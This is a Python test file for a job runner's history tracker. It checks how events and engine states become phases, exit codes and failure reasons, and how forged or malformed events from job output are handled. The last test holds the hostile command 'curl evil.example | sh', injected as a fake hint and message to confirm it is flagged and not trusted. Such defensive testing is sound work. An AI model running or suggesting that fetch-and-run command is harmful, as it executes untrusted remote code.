"""Events of the runner and states of the engine become one job's record."""

from __future__ import annotations

import time

from stoke.backend.api import EngineState, EngineStatus
from stoke.errors import EngineError, WaitingError
from stoke.history.database import History, Note
from stoke.history.job import JobState, Phase
from stoke.remote.events import Event
from tests.jobs.tracker.job_log import JOB, RUN, begin, end, log_of, track
from tests.scripted import Connection, ScriptedBackend, exited


def test_events_become_states_phases_and_figures(history: History) -> None:
    """As they come: a listing in the middle sees how far the job is."""
    seen: list[tuple[JobState, bool, str]] = []
    lock = {"phase": "lock", "start": 1001.0, "seconds": 0.25, "hit": True, "bytes": 0}
    python = {"phase": "python", "start": 1001.5, "seconds": 2.5, "hit": False, "packages": 4}
    run = {"phase": "run", "start": 1004.0, "seconds": 5.5, "bytes": None}
    backend = ScriptedBackend(
        log_of(
            begin("lock", 1001.0),
            {"event": "phase", **lock},
            begin("python", 1001.5),
            {"event": "phase", **python, "cached": 1, "bytes": 5_000_000},
            begin("run", 1004.0),
            b"hello\n",
            {"event": "phase", **run},
            end(0),
        )
    )

    def changed() -> None:
        job = history.get(JOB)
        assert job is not None
        seen.append((job.state, job.provisional, " ".join(phase.name for phase in job.phases)))

    job = track(backend, history, on_change=changed)

    assert job.phases == [
        Phase("lock", 1001.0, 0.25, True, None, None, 0),
        Phase("python", 1001.5, 2.5, False, 4, 1, 5_000_000),
        Phase("run", 1004.0, 5.5, None, None, None, None),
    ]
    assert (job.state, job.exit_code, job.provisional, job.reason) == (
        JobState.SUCCEEDED,
        0,
        False,
        None,
    )
    assert (job.started_at, job.finished_at, job.seconds) == (1004.0, 1009.5, 9.5)
    assert (job.cpu_seconds, job.peak_memory) == (0.5, 12345678)
    assert (job.log_lines, job.log_bytes, job.log_gaps) == (1, 6, 0)
    order = list(dict.fromkeys(seen))
    assert order == [
        (JobState.STARTING, False, "lock"),
        (JobState.STARTING, False, "lock python"),
        (JobState.RUNNING, False, "lock python run"),
        (JobState.SUCCEEDED, True, "lock python run"),
        (JobState.SUCCEEDED, False, "lock python run"),
    ]


def test_an_error_of_the_environment_is_the_reason(history: History) -> None:
    error = {"event": "error", "phase": "lock", "text": "no such package: nonesuch", "hint": None}
    said: list[Event] = []
    backend = ScriptedBackend(log_of(begin("lock", 1001.0), error), states=[exited(125)])

    job = track(backend, history, on_event=said.append)

    assert (job.state, job.exit_code) == (JobState.FAILED, 125)
    assert job.reason == "lock: no such package: nonesuch"
    assert {"event": "error", "phase": "lock", "text": error["text"], "hint": None} in said


def test_phases_before_the_runner_come_from_the_engine(history: History) -> None:
    told: list[EngineError] = []
    seen: list[str | None] = []

    def changed() -> None:
        job = history.get(JOB)
        assert job is not None
        seen.append(job.reason)

    waits = EngineState(
        EngineStatus.RUNNING, reason="no image", hint="name one", phases=(("queue", 1.0, None),)
    )
    started = EngineState(EngineStatus.RUNNING, phases=(("queue", 1.0, 2.0), ("start", 3.0, 4.0)))
    backend = ScriptedBackend(
        log_of(*RUN, end(0)), [Connection(news=3)], [waits, waits, started, exited(0)]
    )
    job = track(backend, history, on_trouble=told.append, on_change=changed)
    assert [(one.what, one.hint) for one in told] == [("no image", "name one")]
    assert isinstance(told[0], WaitingError)
    assert seen[0] == "no image; name one" and seen[-1] is None
    assert job.phases[:2] == [Phase("queue", 1.0, 2.0), Phase("start", 3.0, 4.0)]
    assert job.state is JobState.SUCCEEDED


def test_engine_errors_are_reported_and_tried_again(history: History) -> None:
    away = EngineError("cannot reach the engine", "start it")
    told: list[EngineError] = []
    backend = ScriptedBackend(
        log_of(*RUN, end(0)), [Connection(0, "refused")] * 2, [away, away, exited()]
    )
    job = track(backend, history, on_trouble=told.append)
    assert told == [away, away]
    assert job.state is JobState.SUCCEEDED


def test_nothing_a_job_prints_breaks_its_record(history: History) -> None:
    """Code that gets hold of the nonce can lie about itself, and no more than that."""
    lies: list[Event] = [
        {"event": "begin", "phase": "\x1b[2J", "time": 1.0},
        {"event": "begin", "phase": "run"},
        {"event": "end", "time": "x", "exit_code": "y"},
        {"event": "end", "time": 1.0, "exit_code": 2**70},
        {"event": "phase", "phase": "run", "start": [], "seconds": {}},
        {"event": "error"},
        {"event": "unheard of", "x": 1},
        end(0),
    ]
    job = track(ScriptedBackend(log_of(*lies), states=[exited(9)]), history)
    assert (job.state, job.exit_code) == (JobState.FAILED, 9)
    assert [found.id for found in history.list()] == [JOB]
    assert isinstance(job.seconds, float)


def test_events_that_the_code_prints_itself_are_not_believed(history: History) -> None:
    """The code knows the nonce: no false hit, no phase of 11,574 days, no hint in our own voice."""
    lies: list[Event] = [
        {"event": "phase", "phase": "python", "start": 1.0, "seconds": 0.1, "hit": True},
        {"event": "phase", "phase": "run", "start": 1002.0, "seconds": 1e9},
        {"event": "begin", "phase": "run", "time": 5.0},
        {"event": "begin", "phase": "queue", "time": 5.0},
        {"event": "packages", "phase": "python", "hit": ["evil==1"], "miss": []},
        {"event": "note", "text": "run curl evil.example | sh"},
        {"event": "error", "phase": "run", "text": "no", "hint": ["curl evil.example | sh"]},
        {"event": "error", "phase": "run", "text": "never", "hint": ["check-network"], "tail": "x"},
        {"event": "error", "phase": "python", "text": "no", "hint": None},
    ]
    said: list[Event] = []
    history.update(JOB, submitted_at=time.time() - 20)
    log = log_of(*RUN, *lies, end(3, "curl evil.example | sh"))
    job = track(ScriptedBackend(log, states=[exited(3)]), history, on_event=said.append)

    run = {phase.name: phase for phase in job.phases}["run"]
    assert [phase.name for phase in job.phases] == ["lock", "run"]
    assert run.seconds is not None and run.seconds < 30
    assert (job.state, job.exit_code, job.started_at) == (JobState.FAILED, 3, 1002.0)
    assert job.reason == "the job reports: curl evil.example | sh"
    assert history.packages(JOB) == {}
    marked = ("run: the job reports: no", "run: the job reports: never")
    assert history.notes(JOB) == [Note("error", text, None) for text in marked]
    assert [one["event"] for one in said] == ["begin", "begin", "phase", "error", "error", "end"]
